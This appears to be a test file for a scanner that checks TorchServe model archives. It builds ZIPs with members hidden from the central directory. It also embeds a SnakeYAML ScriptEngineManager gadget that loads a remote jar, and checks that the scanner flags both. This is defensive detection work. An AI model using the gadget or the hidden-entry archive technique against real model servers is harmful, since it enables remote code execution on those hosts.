/**
 * TorchServe unzips a `.mar` with Java's ZipInputStream, which follows local headers and never
 * reads the central directory: entries hidden from the directory (after a member's deflate
 * stream, in a gap) are extracted all the same, so the archive is judged against the union of both
 * listings. And its frontend reads the model's YAML config with SnakeYAML, which constructs any
 * Java class a tag names (CVE-2022-1471).
 */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateRawSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { scan } from "../../../src/scan/engine.js";
import { buildTar } from "../../containers/tar-builder.js";
import { buildZip } from "../../containers/zip-builder.js";
import { ruleIds, scanOne } from "../../helpers/scan.js";

const enc = new TextEncoder();
const u16 = (n: number) => [n & 0xff, (n >>> 8) & 0xff];
const u32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
function cat(...parts: (Uint8Array | number[])[]): Uint8Array {
  const all = parts.map((p) => (p instanceof Uint8Array ? p : Uint8Array.from(p)));
  const out = new Uint8Array(all.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of all) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}
function local(name: string, flags: number, method: number, crc: number, csize: number, size: number): Uint8Array {
  const n = enc.encode(name);
  return cat(
    u32(0x04034b50),
    u16(20),
    u16(flags),
    u16(method),
    u16(0),
    u16(0),
    u32(crc),
    u32(csize),
    u32(size),
    u16(n.length),
    u16(0),
    n,
  );
}
function central(
  name: string,
  flags: number,
  method: number,
  crc: number,
  csize: number,
  size: number,
  offset: number,
) {
  const n = enc.encode(name);
  return cat(
    u32(0x02014b50),
    u16(20),
    u16(20),
    u16(flags),
    u16(method),
    u16(0),
    u16(0),
    u32(crc),
    u32(csize),
    u32(size),
    u16(n.length),
    u16(0),
    u16(0),
    u16(0),
    u16(0),
    u32(0),
    u32(offset),
    n,
  );
}
const stored = (name: string, data: Uint8Array) =>
  cat(local(name, 0, 0, crc32(data) >>> 0, data.length, data.length), data);

const manifest = (handler: string) =>
  enc.encode(
    JSON.stringify({
      runtime: "python",
      archiverVersion: "0.9.0",
      model: { modelName: "resnet", handler, modelVersion: "1.0" },
    }),
  );
const PAYLOAD = enc.encode("import os\nos.system('id')\n");

/**
 * The reviewed shape: the directory lists only the manifest, deflated with flag bit 3; after its
 * deflate stream and descriptor, inside its declared size, sits a complete local entry.
 */
function hiddenAfterStream(hidden: Uint8Array, handler = "image_classifier"): Uint8Array {
  const m = manifest(handler);
  const comp = deflateRawSync(m);
  const crc = crc32(m) >>> 0;
  const data = cat(comp, u32(0x08074b50), u32(crc), u32(comp.length), u32(m.length), hidden);
  const body = cat(local("MAR-INF/MANIFEST.json", 8, 8, 0, 0, 0), data);
  const cd = central("MAR-INF/MANIFEST.json", 8, 8, crc, data.length, m.length, 0);
  return cat(body, cd, u32(0x06054b50), u16(0), u16(0), u16(1), u16(1), u32(cd.length), u32(body.length), u16(0));
}

describe("TorchServe members only ZipInputStream extracts", () => {
  it("a handler-shadowing module after the manifest's deflate stream is judged (the review's resnet-hidden.mar)", async () => {
    const file = await scanOne(hiddenAfterStream(stored("image_classifier.py", PAYLOAD)), "resnet-hidden.mar");
    expect(ruleIds(file)).toContain("torchserve/custom-handler");
    expect(ruleIds(file)).not.toContain("torchserve/builtin-handler");
    expect(file.facts?.["torchserve.streamedOnlyMembers"]).toBe(1);
    expect(["suspicious", "malicious"]).toContain(file.verdict);
    expect(file.findings.some((f) => f.ruleId === "torchserve/custom-handler" && f.severity === "high")).toBe(true);
  });

  it("a module shadowing the standard library in a gap between members is judged", async () => {
    const m = manifest("image_classifier");
    const first = stored("MAR-INF/MANIFEST.json", m);
    const hidden = stored("platform.py", PAYLOAD);
    const weights = enc.encode("weights");
    const second = stored("model.pt", weights);
    const body = cat(first, hidden, second);
    const cd = cat(
      central("MAR-INF/MANIFEST.json", 0, 0, crc32(m) >>> 0, m.length, m.length, 0),
      central("model.pt", 0, 0, crc32(weights) >>> 0, weights.length, weights.length, first.length + hidden.length),
    );
    const zip = cat(
      body,
      cd,
      u32(0x06054b50),
      u16(0),
      u16(0),
      u16(2),
      u16(2),
      u32(cd.length),
      u32(body.length),
      u16(0),
    );
    const file = await scanOne(zip, "gap.mar");
    expect(ruleIds(file)).toContain("torchserve/shadowed-module");
  });

  it("a second manifest only the streaming reader sees is judged too", async () => {
    const hidden = cat(stored("MAR-INF/MANIFEST.json", manifest("evil")), stored("evil.py", PAYLOAD));
    const file = await scanOne(hiddenAfterStream(hidden), "two-manifests.mar");
    expect(file.findings.some((f) => f.ruleId === "torchserve/custom-handler" && f.evidence?.handler === "evil")).toBe(
      true,
    );
  });

  it("a local header naming a member otherwise than its central record is extracted under the local name", async () => {
    const m = manifest("image_classifier");
    const first = stored("MAR-INF/MANIFEST.json", m);
    const body = cat(first, stored("image_classifier.py", PAYLOAD));
    const cd = cat(
      central("MAR-INF/MANIFEST.json", 0, 0, crc32(m) >>> 0, m.length, m.length, 0),
      central("notes.txt", 0, 0, crc32(PAYLOAD) >>> 0, PAYLOAD.length, PAYLOAD.length, first.length),
    );
    const zip = cat(
      body,
      cd,
      u32(0x06054b50),
      u16(0),
      u16(0),
      u16(2),
      u16(2),
      u32(cd.length),
      u32(body.length),
      u16(0),
    );
    const file = await scanOne(zip, "renamed.mar");
    expect(ruleIds(file)).toEqual(expect.arrayContaining(["torchserve/custom-handler", "zip/name-mismatch"]));
  });

  it("an archive written by zipfile has no streamed-only members", async () => {
    const zip = buildZip([
      { name: "MAR-INF/MANIFEST.json", data: manifest("image_classifier"), method: 8 },
      { name: "notes.txt", data: "weights" },
    ]);
    const file = await scanOne(zip, "ok.mar");
    expect(ruleIds(file)).toEqual(["torchserve/builtin-handler"]);
    expect(file.facts?.["torchserve.streamedOnlyMembers"]).toBeUndefined();
  });
});

const GADGET =
  'minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:8000/x.jar"]]]]\n';

function marWithConfig(config: string): Uint8Array {
  return buildZip([
    { name: "MAR-INF/MANIFEST.json", data: manifest("image_classifier"), method: 8 },
    { name: "model-config.yaml", data: config, method: 8 },
  ]);
}

const javaTags = (findings: { ruleId: string; severity: string }[]) =>
  findings.filter((f) => f.ruleId === "torchserve/java-yaml-tag").map((f) => f.severity);

describe("torchserve/java-yaml-tag", () => {
  it("the SnakeYAML ScriptEngineManager gadget in model-config.yaml is critical", async () => {
    const file = await scanOne(marWithConfig(GADGET), "gadget.mar");
    expect(javaTags(file.findings)).toContain("critical");
    expect(file.verdict).toBe("malicious");
  });

  it("any Java class tag is high, however it is spelled", async () => {
    for (const config of [
      "a: !<tag:yaml.org,2002:com.example.Widget> {x: 1}\n",
      "%TAG !j! tag:yaml.org,2002:\n---\na: !j!com.example.Widget {x: 1}\n",
      "a: !!com%2Eexample.Widget {x: 1}\n",
    ]) {
      const file = await scanOne(marWithConfig(config), "tagged.mar");
      expect(javaTags(file.findings), config).toEqual(["high"]);
    }
    const gadget = await scanOne(marWithConfig("a: !!javax%2Escript.ScriptEngineManager []\n"), "escaped.mar");
    expect(javaTags(gadget.findings)).toEqual(["critical"]);
  });

  it("a plain model config and standard tags pass", async () => {
    const file = await scanOne(
      marWithConfig("minWorkers: 1\nbatchSize: !!int 4\nname: !!str x\nresponseTimeout: 120\n"),
      "plain.mar",
    );
    expect(javaTags(file.findings)).toEqual([]);
    expect(file.verdict).toBe("clean");
  });

  it("a model folder (no-archive) and a tgz-style tar are checked too", async () => {
    const dir = await mkdtemp(join(tmpdir(), "mg-ts-yaml-"));
    try {
      await mkdir(join(dir, "m", "MAR-INF"), { recursive: true });
      await writeFile(join(dir, "m", "MAR-INF", "MANIFEST.json"), manifest("image_classifier"));
      await writeFile(join(dir, "m", "model-config.yaml"), GADGET);
      const report = await scan(dir);
      const all = report.files.flatMap((f) => f.findings);
      expect(javaTags(all)).toContain("critical");
      const tgz = gzipSync(
        buildTar([
          { name: "resnet/MAR-INF/MANIFEST.json", data: manifest("image_classifier") },
          { name: "resnet/model-config.yaml", data: GADGET },
        ]),
      );
      const tarred = await scan({ bytes: tgz, name: "resnet.tar.gz" });
      expect(javaTags(tarred.files.flatMap((f) => f.findings))).toContain("critical");
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
